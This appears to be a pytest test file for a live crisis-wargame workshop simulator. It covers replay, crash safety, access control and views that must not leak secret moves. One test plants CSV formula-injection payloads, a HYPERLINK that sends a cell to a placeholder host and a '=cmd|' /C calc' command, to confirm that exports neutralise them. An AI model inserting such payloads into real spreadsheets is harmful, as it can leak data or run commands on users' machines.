"""The live workshop: a scripted session end to end, replay, branching, crash-safety,
and views that never leak controller-only material."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from sim.errors import InputError, SessionError
from sim.inputs.condition import Condition
from sim.inputs.library import SCENARIOS_DIR
from sim.workshop import views
from sim.workshop.documents import aar_markdown, export_all
from sim.workshop.render import hotwash_html, projector_html, team_html
from sim.workshop.session import Session
from sim.workshop.terminal import Console

ROOT = Path(__file__).resolve().parent.parent
SENKAKU = SCENARIOS_DIR / "senkaku.yaml"


def scripted(folder: Path) -> Session:
    """A three-move exercise with every kind of facilitator action."""
    s = Session.create(folder, SENKAKU, seed=4, seats={"JPN": "human", "PRC": "hybrid", "US": "ai"})
    s.set_phase("briefing")
    assert s.start_move() == ["S1"]
    s.release("S1")
    s.start_timer(20)
    s.add_time(1)
    s.set_phase("deliberation")
    prop = s.advice("PRC")["options"][0]
    alt = next(a for a in ("hold", "protest", "propose_talks") if a != prop["action"])
    alt_target = None if alt == "hold" else "JPN"
    with pytest.raises(SessionError, match="needs a reason"):
        s.submit("PRC", alt, alt_target)  # replacing a hybrid proposal needs a reason
    s.set_phase("submission")
    s.submit("JPN", "protest", "PRC", rationale="Protest the ramming")
    s.submit("PRC", alt, alt_target, override_reason="Team wants to avoid escalation", rationale="Wait and see")
    s.submit_ai()
    s.set_phase("adjudication")
    s.adjudicate("JPN", "matrix", probability=0.8, arguments="A protest is easy")
    s.adjudicate("US", "ruling", success=False, reason="The call was not put through")
    s.undo_adjudication()
    s.adjudicate("US", "model")
    s.resolve()
    # move 2: an edited inject, a new one, a secret move
    s.start_move()
    s.release(inject={"id": "S3", "title": "SecDef restates Article 5 (edited)", "kind": "contingency",
                      "effects": {"hostility": [{"a": "PRC", "b": "US", "value": 0.05}]}})
    s.release(inject={"id": "X1", "title": "Fishing fleet sails from Wenzhou", "kind": "contingency", "to": ["JPN"]})
    s.set_phase("submission")
    s.submit("JPN", "coast_guard_patrol", "PRC", public=False, rationale="Quiet reinforcement")
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    s.set_seat("JPN", "ai")
    s.play_move()
    s.note("JPN asked whether the MACM covers coast guards", tags=["question"])
    s.hotwash("strength", "Teams used the hotline early")
    s.hotwash("improvement", "No channel covers the coast guards")
    s.set_phase("hotwash")
    s.set_phase("endex")
    return s


def test_scripted_session_to_after_action_report(tmp_path):
    s = scripted(tmp_path / "s")
    assert s.state.move == 3 and s.state.ended and len(s.state.moves) == 3
    files = {p.name: p for p in export_all(s)}
    assert {"aar.md", "aar.html", "decisions.csv", "msel_released.csv", "inject_cards.html", "role_sheets.html",
            "facilitator_handbook.html", "escalation.png"} <= set(files)
    for name in ("aar", "inject_cards", "role_sheets", "facilitator_handbook"):  # every printable as PDF too
        assert files[f"{name}.pdf"].read_bytes()[:5] == b"%PDF-"
    md = aar_markdown(s)
    for section in ("Exercise overview", "Analysis of objectives", "Expected versus actual", "Move-by-move narrative",
                    "Decision log", "Adjudication audit", "Crisis-channel usage", "Escalation trajectory",
                    "diverged from the AI", "Hot wash", "Appendix A: Improvement plan", "Appendix B: Participants",
                    "DRAFT"):
        assert section in md, section
    assert "Team wants to avoid escalation" in md  # the override reason is in the divergence list
    assert "matrix: p=0.80" in md and "No channel covers the coast guards" in md
    csv = s.decisions_csv()
    assert csv.count("\n") == 1 + 3 * 3 and "hybrid-replaced" in csv
    with pytest.raises(SessionError, match="ended"):
        s.start_move()


def test_rules_of_play_are_enforced(tmp_path):
    s = Session.create(tmp_path / "r", SENKAKU, seed=1, seats={"JPN": "human"})
    with pytest.raises(SessionError):
        s.resolve()  # not in adjudication
    s.start_move()
    with pytest.raises(SessionError, match="cannot take"):
        s.submit("JPN", "nuclear_use", "PRC")
    with pytest.raises(SessionError, match="target"):
        s.submit("JPN", "protest", "US")
    with pytest.raises(SessionError, match="unknown actor"):
        s.submit("RUS", "protest", "US")
    s.set_phase("adjudication")
    with pytest.raises(SessionError, match="missing decisions"):
        s.resolve()
    with pytest.raises(SessionError, match="no adjudication"):
        s.undo_adjudication()
    assert isinstance(SessionError("x"), InputError)


def test_replay_branch_and_read_only(tmp_path):
    s = scripted(tmp_path / "s")
    again = Session.load(tmp_path / "s")
    assert again.hash() == s.hash() and len(again.events) == len(s.events)
    ro = Session.load(tmp_path / "s", read_only=True)
    with pytest.raises(SessionError, match="read-only"):
        ro.note("x")
    cut = next(i for i, e in enumerate(s.events) if e["type"] == "move_started" and e["move"] == 2)
    at_move1 = Session.load(tmp_path / "s", upto=cut)
    branch = s.branch(tmp_path / "b", upto_move=1)
    assert branch.hash() == at_move1.hash() and branch.state.move == 1
    branch.set_seat("JPN", "ai")
    branch.play_move()  # the branch goes its own way; the original is untouched
    assert Session.load(tmp_path / "s").hash() == s.hash()


def test_torn_last_line_is_dropped(tmp_path):
    s = scripted(tmp_path / "s")
    h, n = s.hash(), len(s.events)
    with open(tmp_path / "s" / Session.LOG, "a") as f:
        f.write('{"seq": 999, "type": "no')  # a write cut off by a crash
    again = Session.load(tmp_path / "s")
    assert again.hash() == h and len(again.events) == n


CHILD = textwrap.dedent("""
    import sys
    from sim.workshop.session import Session
    s = Session.create(sys.argv[1], sys.argv[2], seed=7, seats={"JPN": "human"})
    def ack():
        print(len(s.events), s.hash(), flush=True)
    for move in range(6):
        s.start_move(); ack()
        for i in s.due_injects():
            s.release(i); ack()
        s.set_phase("submission"); ack()
        s.submit("JPN", "protest", "PRC", rationale="steady"); ack()
        s.submit_ai(); ack()
        s.set_phase("adjudication"); ack()
        s.resolve(); ack()
""")


def test_kill_mid_move_and_resume(tmp_path):
    """SIGKILL at random moments: every acknowledged event survives, the state hash matches."""
    rnd = random.Random(12)
    script = tmp_path / "child.py"
    script.write_text(CHILD)
    for trial in range(4):
        folder = tmp_path / f"k{trial}"
        proc = subprocess.Popen([sys.executable, str(script), str(folder), str(SENKAKU)], stdout=subprocess.PIPE,
                                text=True, cwd=ROOT, env={**os.environ, "MPLBACKEND": "Agg"})
        acked = []
        stop_after = rnd.randint(3, 25)
        for line in proc.stdout:
            acked.append(line.split())
            if len(acked) >= stop_after:
                proc.send_signal(signal.SIGKILL)
                break
        proc.wait(timeout=60)
        n, h = int(acked[-1][0]), acked[-1][1]
        s = Session.load(folder)
        assert len(s.events) >= n  # nothing acknowledged is lost
        if len(s.events) == n:
            assert s.hash() == h
        # and the session carries on
        if s.state.phase in ("readout", "briefing"):
            s.start_move()
        assert s.state.move >= 1


def test_projector_and_team_views_never_leak(tmp_path):
    s = Session.create(tmp_path / "v", SENKAKU, seed=4, seats={"JPN": "human", "PRC": "hybrid"})
    s.start_move()
    s.release("S1")
    s.set_phase("submission")
    s.submit("JPN", "coast_guard_patrol", "PRC", public=False, rationale="SECRET-RATIONALE-JPN")
    prop = s.advice("PRC")["options"][0]
    s.submit("PRC", prop["action"], prop["target"])
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    s.start_move()
    spec = s.state.spec
    unreleased = [i for i in spec.scenario.injects if i.id not in {r["id"] for r in s.state.released}]
    forbidden = [i.title for i in unreleased] + [i.controller_note for i in spec.scenario.injects if i.controller_note]
    forbidden += [i.expected_action for i in spec.scenario.injects if i.expected_action]
    forbidden += ["SECRET-RATIONALE-JPN", "Coast-guard patrols in contested waters", "controller"]
    ai_reasoning = ["drivers", "restraint", "AI proposes", "AI adviser"]
    proj = projector_html(s)
    for text in forbidden + ai_reasoning:
        assert text not in proj, f"projector shows {text!r}"
    s.hotwash("insight", "The hotline was never called")
    wash = hotwash_html(s)
    assert "Coast-guard collision near Uotsuri" in wash and "The hotline was never called" in wash
    for text in forbidden + ai_reasoning:
        assert text not in wash, f"hot-wash screen shows {text!r}"
    for team, extra in (("US", ai_reasoning), ("PRC", [])):  # PRC (hybrid) may see its own adviser
        page = team_html(s, team)
        for text in forbidden + extra:
            assert text not in page, f"{team} team view shows {text!r}"
    jpn = team_html(s, "JPN")
    assert "Coast-guard patrols in contested waters" in jpn  # a team sees its own secret move
    assert "AI adviser" in team_html(s, "PRC")  # a hybrid team sees its own adviser, nobody else does


def test_forecast_from_the_live_state(tmp_path):
    s = Session.create(tmp_path / "f", SENKAKU, seed=4)
    s.play_move()
    f = s.forecast(1000)
    assert f["runs"] == 1000
    assert abs(sum(v["share"] for v in f["outcomes"].values()) - 1) < 1e-9
    assert f == s.forecast(1000)  # seeded: the room sees the same spread twice


def test_a_workshop_plays_a_condition(tmp_path):
    """Levers, overlays and overrides reach the workshop's world and are logged with it."""
    s = Session.create(tmp_path / "c", SENKAKU, seed=4, levers=["coast_guard_rules"],
                       overrides=[("parameters.fog", 0.3)])
    assert s.state.spec.scenario.parameters.encounter_rules == 0.8 and s.state.spec.scenario.parameters.fog == 0.3
    created = s.events[0]
    assert created["condition"]["levers"] == ["coast_guard_rules"]
    assert created["condition"]["overrides"] == [["parameters.fog", 0.3]]
    s.play_move()
    again = Session.load(tmp_path / "c")
    assert again.state.condition == s.state.condition and again.hash() == s.hash()
    same = Session.create(tmp_path / "c2", Condition.of(SENKAKU, levers=["coast_guard_rules"],
                                                        overrides=[("parameters.fog", 0.3)]), seed=4)
    same.play_move()
    assert same.hash() == s.hash()
    with pytest.raises(InputError, match="unknown lever"):
        Session.create(tmp_path / "bad", SENKAKU, levers=["no_such_lever"])
    assert not (tmp_path / "bad" / Session.LOG).exists()


def _rewrite_log(folder: Path, change) -> None:
    """Rewrite a log as an older version would have written it (no integrity digests)."""
    lines = [json.loads(x) for x in (folder / Session.LOG).read_text().splitlines()]
    (folder / Session.LOG).write_text("".join(json.dumps({k: v for k, v in change(e).items() if k != "digest"},
                                                         sort_keys=True) + "\n" for e in lines))


def test_release_draws_the_injects_chance(tmp_path):
    """A release draws the inject's probability as a batch run would; a failed one is said plainly."""
    s = Session.create(tmp_path / "p", SENKAKU, seed=4)
    s.start_move()
    assert s.release("S1") is True  # probability 1
    assert s.release("S2") is False  # chance 30%: run 0 of seed 4 draws 0.86 at turn 1
    assert [r["id"] for r in s.state.not_happened] == ["S2"] and "S2" not in s.due_injects()
    said = s.state.headlines[-1]
    assert said.text == "S2 was released but did not happen (chance 30%)" and not said.public and not said.actor
    assert "Japanese activists" not in projector_html(s) and "did not happen" not in team_html(s, "JPN")
    with pytest.raises(SessionError, match="did not happen"):
        s.release("S2")
    assert s.release(inject={"id": "S2", "title": "Activists land (edited)", "kind": "contingency"}) is True
    assert Session.load(tmp_path / "p").hash() == s.hash()
    # a log from before the draw (no "drawn" on its releases) replays as it was played: S2 happened
    _rewrite_log(tmp_path / "p", lambda e: {k: v for k, v in e.items() if k != "drawn"})
    old = Session.load(tmp_path / "p", read_only=True, upto=4)
    assert [r["id"] for r in old.state.released] == ["S1", "S2"] and not old.state.not_happened


def test_skip_is_an_engine_decline_and_old_logs_load(tmp_path):
    s = Session.create(tmp_path / "k", SENKAKU, seed=4)
    s.skip("S1")
    s.start_move()
    assert s.due_injects() == [] and bool(s.state.st.declined[0, 0]) and not s.state.st.fired[0, 0]
    _rewrite_log(tmp_path / "k", lambda e: {k: v for k, v in e.items() if k != "condition"})
    old = Session.load(tmp_path / "k")  # a log from before conditions: the scenario as written
    assert old.state.condition == Condition.of(str(SENKAKU)) and old.hash() == s.hash()


def test_the_models_verdict_is_said_once_and_play_goes_on(tmp_path):
    # threat that fades within a day or two, so the model's end (threat back at its pre-crisis level for two
    # days) comes inside the six moves
    s = Session.create(tmp_path / "e", SENKAKU, seed=1, overrides=[("turns.max", 6), ("baseline.calm_days.value", 2.0),
                                                                   ("parameters.hostility_decay_per_day", 0.9)])
    for _ in range(4):
        s.play_move()
    said = [h.text for h in s.state.headlines if "crisis has ended" in h.text]
    assert said == ["By the model's rules the crisis has ended: faded"] and not s.state.ended
    s.play_move()
    s.play_move()
    assert [h.text for h in s.state.headlines].count(said[0]) == 1
    with pytest.raises(SessionError, match="has 6 moves"):
        s.start_move()


def test_terminal_console_drives_the_same_session(tmp_path):
    s = Session.create(tmp_path / "t", SENKAKU, seed=4, seats={"JPN": "human"})
    script = ("move\nrelease S1\nrelease S2\ninjects\nphase submission\ndecide JPN protest PRC\npreview\nai\n"
              "phase adjudication\npreview\nresolve\nforecast 50\nbogus\n")
    out = io.StringIO()
    Console(s, stdin=io.StringIO(script), stdout=out).cmdloop()
    text = out.getvalue()
    assert "S2 was released but did not happen (chance 30%)" in text
    assert "S2     conditional  did not happen" in text and "S1     day 1        released" in text
    assert "! missing decisions from PRC, US" in text  # a preview before every team has decided
    assert "50 runs from move 1" in text and "unknown command 'bogus'" in text
    assert len(s.state.moves) == 1 and Session.load(tmp_path / "t").hash() == s.hash()


# ---------------------------------------------------------------------------- live-room rules

TAIWAN = SCENARIOS_DIR / "taiwan_strait.yaml"


def test_seats_are_checked(tmp_path):
    from sim.workshop.session import parse_seats

    with pytest.raises(SessionError, match="unknown seat mode 'humna' for JPN"):
        Session.create(tmp_path / "a", SENKAKU, seats=parse_seats("JPN=humna"))
    with pytest.raises(SessionError, match="unknown actor 'JAPAN'"):
        Session.create(tmp_path / "b", SENKAKU, seats=parse_seats("JAPAN=human"))
    with pytest.raises(SessionError, match="not ACTOR=MODE"):
        parse_seats("JPN")
    assert not (tmp_path / "a" / Session.LOG).exists()


def test_timer_counts_stops_resets_and_belongs_to_its_phase(tmp_path):
    s = Session.create(tmp_path / "t", SENKAKU, seed=1)
    s.start_move()
    s.set_phase("deliberation")
    for bad in ("inf", "nan", "1e308", "-1", 0, "ten"):
        with pytest.raises(SessionError, match=r"between 0\.1 and 240"):
            s.start_timer(bad)
    s.start_timer(20)
    assert 1199 <= s.timer()["remaining"] <= 1200 and s.timer()["running"]
    s.add_time(1)
    assert s.timer()["remaining"] > 1250
    s.stop_timer()
    left = s.timer()["remaining"]
    assert not s.timer()["running"] and s.timer(now=10**10)["remaining"] == left  # stopped: it does not move
    s.add_time("-2")
    assert s.timer()["remaining"] == pytest.approx(left - 120)
    s.resume_timer()
    s.pause(True)  # the room's pause stops the countdown too
    assert not s.timer()["running"]
    s.pause(False)
    assert s.timer()["running"]
    s.reset_timer()
    assert s.timer()["remaining"] > 1199
    s.set_phase("submission")
    assert s.timer() is None  # a countdown belongs to its phase
    s.start_timer(0.1)
    assert Session.load(tmp_path / "t").timer()["minutes"] == 0.1


def test_teams_submit_confirm_and_withdraw_before_the_deadline(tmp_path):
    s = Session.create(tmp_path / "w", SENKAKU, seed=2, seats={"JPN": "human", "PRC": "hybrid"})
    s.start_move()
    s.set_phase("submission")
    s.by = "team:JPN"
    with pytest.raises(SessionError, match="only its own move"):
        s.submit("PRC", "protest", "JPN")
    s.submit("JPN", "protest", "PRC", rationale="from our page")
    assert s.state.pending["JPN"].by == "team:JPN"
    with pytest.raises(SessionError, match="withdraw it first"):
        s.submit("JPN", "hold")
    s.withdraw("JPN")
    s.submit("JPN", "hotline_call", "PRC", channel="Japan-China Maritime and Aerial Communication Mechanism")
    s.by = None
    s.start_timer(0.1)
    s.state.timer["ends"] -= 10  # the countdown has run out
    s.by = "team:JPN"
    with pytest.raises(SessionError, match="deadline has passed"):
        s.withdraw("JPN")
    s.by = None
    s.add_time(0.5)  # the facilitator re-opens submissions
    s.by = "team:PRC"
    top = s.advice("PRC")["options"][0]
    s.submit("PRC", top["action"], top["target"])
    assert s.state.pending["PRC"].source == "hybrid-approved"
    s.by = None
    s.submit_ai()
    assert [e.get("by") for e in s.events if e["type"] == "decision"][:3] == ["team:JPN", "team:JPN", "team:PRC"]
    assert [w["actor"] for w in s.state.withdrawn] == ["JPN"]


def test_advice_is_frozen_per_move_with_three_labelled_options(tmp_path):
    s = Session.create(tmp_path / "a", SENKAKU, seed=4, seats={"PRC": "hybrid"})
    s.start_move()
    assert not s.advice("PRC")["frozen"]
    s.set_phase("deliberation")
    adv = s.advice("PRC")
    assert adv["frozen"] and len(adv["options"]) == 3
    probs = [o["probability"] for o in adv["options"]]
    assert probs == sorted(probs, reverse=True) and all(o["label"] and o["drivers"] for o in adv["options"])
    s.release("S1")  # an inject after deliberation began does not move the advice
    assert s.advice("PRC")["options"] == adv["options"]
    s.submit_ai("PRC")
    sub = s.state.pending["PRC"]
    assert sub.source == "hybrid-approved" and sub.action == adv["options"][0]["action"]


def test_injects_edited_written_held_and_private(tmp_path):
    s = Session.create(tmp_path / "i", TAIWAN, seed=2)
    s.start_move()
    s.hold("T3")
    s.release("T1")
    s.set_phase("submission")
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    s.start_move()
    assert views.msel_status(s)["T3"] == "held"  # a hold lasts until it is released, unheld or skipped
    s.release_edited("T3", text="A quiet offer of talks", to=["US"])
    xid = s.write_inject("Cabinet wants options", "Within six hours", to=["JPN", "TWN"])
    rows = {r["id"]: r for r in views.msel_rows(s)}
    assert rows["T3"]["edited"] and rows["T3"]["to"] == ["US"] and rows[xid]["written"] and not rows[xid]["edited"]
    assert rows[xid]["to"] == ["TWN", "JPN"]
    proj, us, prc = projector_html(s), team_html(s, "US"), team_html(s, "PRC")
    assert "A quiet offer of talks" in us and "back channel" not in proj and "back channel" not in prc
    assert "Cabinet wants options" in team_html(s, "JPN") and "Cabinet wants options" not in proj
    s.set_phase("submission")
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    md = aar_markdown(s)
    assert "Cabinet wants options (written)" in md and "(edited)" in md


def test_readout_is_revealed_item_by_item_with_rolls_and_calls(tmp_path):
    s = Session.create(tmp_path / "r", SENKAKU, seed=4, seats={"JPN": "human"})
    s.start_move()
    s.release("S1")
    s.set_phase("submission")
    s.submit("JPN", "hotline_call", "PRC")
    s.submit_ai()
    s.set_phase("adjudication")
    s.adjudicate("JPN", "matrix", probability=0.9, arguments="A call is cheap")
    s.resolve()
    rec = s.state.moves[-1]
    assert rec.calls["JPN"] and "calls" not in repr(rec)  # read-out detail stays out of the pinned repr
    assert "Call on the crisis hotline" not in projector_html(s)  # nothing shown before the reveal
    s.reveal()
    page = projector_html(s)
    assert "Japan: Call on the crisis hotline toward China" in page and "Matrix roll: needed under 0.90" in page
    answered = "was answered" if rec.calls["JPN"][0]["answered"] else "was not answered"
    assert answered in page
    assert s.reveal(-1) == s.readout_size()


def test_secret_moves_leave_no_trace_for_the_room_until_revealed(tmp_path):
    s = Session.create(tmp_path / "x", SENKAKU, seed=4, seats={"PRC": "human"})
    s.start_move()
    s.set_phase("submission")
    s.submit("PRC", "coast_guard_patrol", "JPN", public=False)
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    s.reveal(-1)
    levels = views.public_levels(s)
    assert levels["PRC"] == [(1, "status_quo")]  # carried over, no gap
    assert views.true_levels(s)["PRC"] == [(1, "grey_zone")]
    jpn = views.team_model(s, "JPN")
    assert next(o for o in jpn["others"] if o["actor"] == "PRC")["did"] == "no public move yet"
    assert "Coast-guard patrols" not in team_html(s, "JPN") and "Coast-guard patrols" not in projector_html(s)
    s.set_phase("hotwash")
    assert "Coast-guard patrols" not in hotwash_html(s)
    s.reveal_secrets()
    assert "Coast-guard patrols in contested waters \u2192 Grey-zone presence (secret)" in hotwash_html(s)


def test_csv_exports_neutralise_formulas(tmp_path):
    s = Session.create(tmp_path / "c", SENKAKU, seed=1, seats={"JPN": "human"})
    s.start_move()
    s.write_inject('=HYPERLINK("http://x.example/?q="&A1,"Click")')
    s.set_phase("submission")
    s.submit("JPN", "protest", "PRC", rationale="=cmd|' /C calc'!A0")
    s.submit_ai()
    s.set_phase("adjudication")
    s.resolve()
    from sim.workshop.documents import msel_as_released

    for text in (s.decisions_csv(), msel_as_released(s)):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'=cmd|' /C calc'!A0" in s.decisions_csv()


def test_every_action_is_checked_against_the_role_of_its_link(tmp_path):
    from sim.workshop import server
    from sim.workshop.access import AccessDenied

    s = Session.create(tmp_path / "a", SENKAKU, seed=1, seats={"JPN": "human"})
    server.setup(session=s)
    links = server.links("http://room:1")
    token = {name: url.split("k=")[1] for name, url in links.items()}
    assert set(token) == {"facilitator", "projector", "observer", "team:JPN", "team:PRC", "team:US"}
    assert len(set(token.values())) == 6 and all(len(t) >= 20 for t in token.values())
    assert oct((tmp_path / "a" / "access.json").stat().st_mode)[-3:] == "600"
    server.act(token["facilitator"], "start_move")
    for who, call, kwargs in (("team:JPN", "release", {"inject_id": "S1"}), ("team:JPN", "start_move", {}),
                              ("team:JPN", "submit", {"actor": "PRC", "action": "hold"}),
                              ("projector", "note", {"text": "x"}), ("observer", "submit", {"actor": "JPN"}),
                              ("nobody", "note", {"text": "x"}), ("facilitator", "__init__", {})):
        with pytest.raises(AccessDenied):
            server.act(token.get(who, "not-a-token"), call, **kwargs)
    server.act(token["team:JPN"], "submit", actor="JPN", action="protest", target="PRC")
    server.act(token["observer"], "observe", text="JPN protested at once")
    assert s.events[-2]["by"] == "team:JPN" and s.events[-1]["by"] == "observer"
    assert Session.load(tmp_path / "a").state.observations[0]["by"] == "observer"
    s.close()


def test_terminal_refuses_hostile_values_in_one_line(tmp_path):
    s = Session.create(tmp_path / "h", SENKAKU, seed=4, seats={"JPN": "human"})
    script = ("move\nrelease S1\nphase deliberation\ntimer inf\ntimer nan\ntimer 1e308\ntimer -1e308\ntimer 20\n"
              "timer +1\ntimer stop\nforecast 200000000\nforecast abc\nphase submission\ndecide JPN protest PRC\nai\n"
              "phase adjudication\nadjudicate US ruling fail\nadjudicate US ruling\nundo\nstatus\n")
    out = io.StringIO()
    Console(s, stdin=io.StringIO(script), stdout=out).cmdloop()
    text = out.getvalue()
    assert text.count("! timer minutes must be between 0.1 and 240") == 3
    assert "! added minutes must be between -240 and 240" in text
    assert text.count("! a forecast takes 1 to 20,000 runs") == 2
    assert "  released S1" in text and "  phase deliberation" in text
    assert re.search(r"timer 2[01]:\d\d stopped", text)
    assert "! a facilitator ruling needs a reason" in text
    assert "! a ruling says 'succeed' or 'fail', then its reason" in text
    assert "! there is no adjudication to undo" in text and "Traceback" not in text
    assert all(e.get("ends") is None or e["ends"] < 1e10 for e in s.events if e["type"] == "timer")


def test_a_written_inject_can_report_a_collision_the_facilitator_blames(tmp_path):
    """The facilitator adjudicates "who rammed whom": a written inject with a collision blamed on one side is
    the scenario format's ``effects.collision`` (the victim remembers a blow at the use of force and owes
    its collision red line's answers: Japan, arrest the master), shown on the MSEL and kept on replay.
    Fails if the form's collision fields are dropped on the way to the engine."""
    import numpy as np

    from sim.inputs.catalogue import load_catalogue

    s = Session.create(tmp_path / "w", SENKAKU, seed=4, seats={"JPN": "human", "PRC": "ai", "US": "ai"})
    s.start_move()
    for bad, match in (({"collision_by": "PRC"}, "side blamed and the side struck"),
                       ({"collision_by": "JPN", "collision_against": "JPN"}, "colliding with itself"),
                       ({"collision_by": "DPRK", "collision_against": "JPN"}, "DPRK is not in the scenario")):
        with pytest.raises(InputError, match=match):
            s.write_inject("Rammed", **bad)
    before = int(s.state.st.incidents[0])
    xid = s.write_inject("JCG cutter rammed off Kuba", "A trawler struck the Mizuki", to=["JPN"],
                         collision_by="PRC", collision_against="JPN")
    cat, st, spec = load_catalogue(), s.state.st, s.state.spec
    jpn, prc = spec.actor_index("JPN"), spec.actor_index("PRC")
    assert st.wronged[0, jpn, prc] == cat.threshold("force") and int(st.incidents[0]) == before + 1
    arrest = np.flatnonzero(spec.options.action[jpn] == cat.action_index("arrest_crew"))[0]
    assert (int(st.owed[0, jpn, prc]) >> int(arrest)) & 1
    row = {r["id"]: r for r in views.msel_rows(s)}[xid]
    assert row["written"] and row["note"] == "a collision blamed on PRC, against JPN"
    again = Session.load(tmp_path / "w", read_only=True)
    assert again.state.st.wronged[0, jpn, prc] == cat.threshold("force")


def test_the_terminal_writes_a_collision_inject(tmp_path):
    s = Session.create(tmp_path / "t", SENKAKU, seed=4, seats={"JPN": "human", "PRC": "ai", "US": "ai"})
    s.start_move()
    out = io.StringIO()
    Console(s, stdin=io.StringIO('new JPN "Cutter rammed" "Off Kuba" collision=PRC:JPN\nquit\n'), stdout=out).cmdloop()
    assert "a collision blamed on PRC, against JPN" in out.getvalue()
    assert s.state.released[-1]["collision"] == ["PRC", "JPN"]
